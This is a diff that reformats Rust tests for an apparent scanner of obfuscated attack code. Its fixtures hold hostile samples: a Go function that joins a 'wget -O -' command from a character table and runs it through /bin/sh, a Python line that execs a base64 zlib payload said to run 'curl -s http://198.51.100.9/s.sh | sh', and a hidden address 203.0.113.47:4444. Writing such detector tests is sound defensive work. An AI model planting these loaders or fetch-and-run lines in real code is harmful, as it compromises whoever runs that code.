@@ -50,7 +50,8 @@ fn obfuscator_io_output_is_reported_over_its_region() {
     assert_eq!(f["end_line"], 13, "{f:#}");
     assert!(f["snippet"].as_str().unwrap().starts_with("const _0x4a2b"));
 
-    let sarif: Value = serde_json::from_str(&reviewed(&[("lib/caller.js", OBFUSCATED)], "sarif").stdout).unwrap();
+    let sarif: Value =
+        serde_json::from_str(&reviewed(&[("lib/caller.js", OBFUSCATED)], "sarif").stdout).unwrap();
     let result = sarif["runs"][0]["results"]
         .as_array()
         .unwrap()
@@ -92,8 +93,14 @@ fn a_go_address_xor_decoded_at_run_time_is_reported_with_its_key() {
     let f = finding(&json, "attack.obfuscation.encoded-name");
     assert_eq!(f["line"], 11);
     assert_eq!(f["severity"], "error");
-    assert!(f["message"].as_str().unwrap().contains("203.0.113.47:4444"), "{f:#}");
-    assert_eq!(f["parts"][0]["line"], 6, "the XOR key's line is a part: {f:#}");
+    assert!(
+        f["message"].as_str().unwrap().contains("203.0.113.47:4444"),
+        "{f:#}"
+    );
+    assert_eq!(
+        f["parts"][0]["line"], 6,
+        "the XOR key's line is a part: {f:#}"
+    );
 }
 
 #[test]
@@ -101,8 +108,14 @@ fn a_command_joined_from_a_character_table_is_decoded_and_reviewed() {
     let go = "package lru\n\nimport \"os/exec\"\n\nfunc warm() {\n\tt := []string{\"w\", \"g\", \"e\", \"t\", \" \", \"-\", \"O\", \"h\", \"p\", \"s\", \":\", \"/\", \"x\", \".\", \"i\", \"n\", \"v\", \"a\", \"l\", \"d\", \"|\", \"b\"}\n\tc := t[0] + t[1] + t[2] + t[3] + t[4] + t[5] + t[6] + t[4] + t[5]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}\n";
     let json = reviewed(&[("lru.go", go)], "json").json();
     let f = finding(&json, "attack.obfuscation.char-table");
-    assert_eq!((f["line"].as_u64(), f["severity"].as_str()), (Some(7), Some("error")));
-    assert!(f["message"].as_str().unwrap().contains("`wget -O -`"), "{f:#}");
+    assert_eq!(
+        (f["line"].as_u64(), f["severity"].as_str()),
+        (Some(7), Some("error"))
+    );
+    assert!(
+        f["message"].as_str().unwrap().contains("`wget -O -`"),
+        "{f:#}"
+    );
     assert_eq!(f["parts"][0]["line"], 6);
 }
 
@@ -111,7 +124,10 @@ fn a_zlib_payload_is_inflated_and_its_text_reviewed() {
     // zlib of "import os\nos.system('curl -s http://198.51.100.9/s.sh | sh')\n", base64-encoded.
     let py = "import base64, zlib\nexec(zlib.decompress(base64.b64decode(\"eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3tLTQMzXUMzQw0LPUB6rKUKhRKM5Q1+QCAHqdEpI=\")))\n";
     let json = reviewed(&[("pkg/__init__.py", py)], "json").json();
-    assert_eq!(finding(&json, "attack.obfuscation.exec-compressed")["severity"], "error");
+    assert_eq!(
+        finding(&json, "attack.obfuscation.exec-compressed")["severity"],
+        "error"
+    );
     let inflated: Vec<String> = json["findings"]
         .as_array()
         .unwrap()
@@ -119,7 +135,9 @@ fn a_zlib_payload_is_inflated_and_its_text_reviewed() {
         .filter_map(|f| f["decoded"].as_str().map(str::to_string))
         .collect();
     assert!(
-        inflated.iter().any(|d| d.contains("curl -s http://198.51.100.9/s.sh | sh")),
+        inflated
+            .iter()
+            .any(|d| d.contains("curl -s http://198.51.100.9/s.sh | sh")),
         "{json:#}"
     );
     assert!(messages(&json, "exec.python.os-system")
@@ -145,5 +163,8 @@ fn decompressing_data_and_xor_with_masks_stay_quiet() {
 fn a_decoder_call_as_a_module_name_is_an_error() {
     let json = reviewed(&[("lib/caller.js", OBFUSCATED)], "json").json();
     let f = finding(&json, "attack.obfuscation.decoder-name");
-    assert_eq!((f["line"].as_u64(), f["severity"].as_str()), (Some(13), Some("error")));
+    assert_eq!(
+        (f["line"].as_u64(), f["severity"].as_str()),
+        (Some(13), Some("error"))
+    );
 }
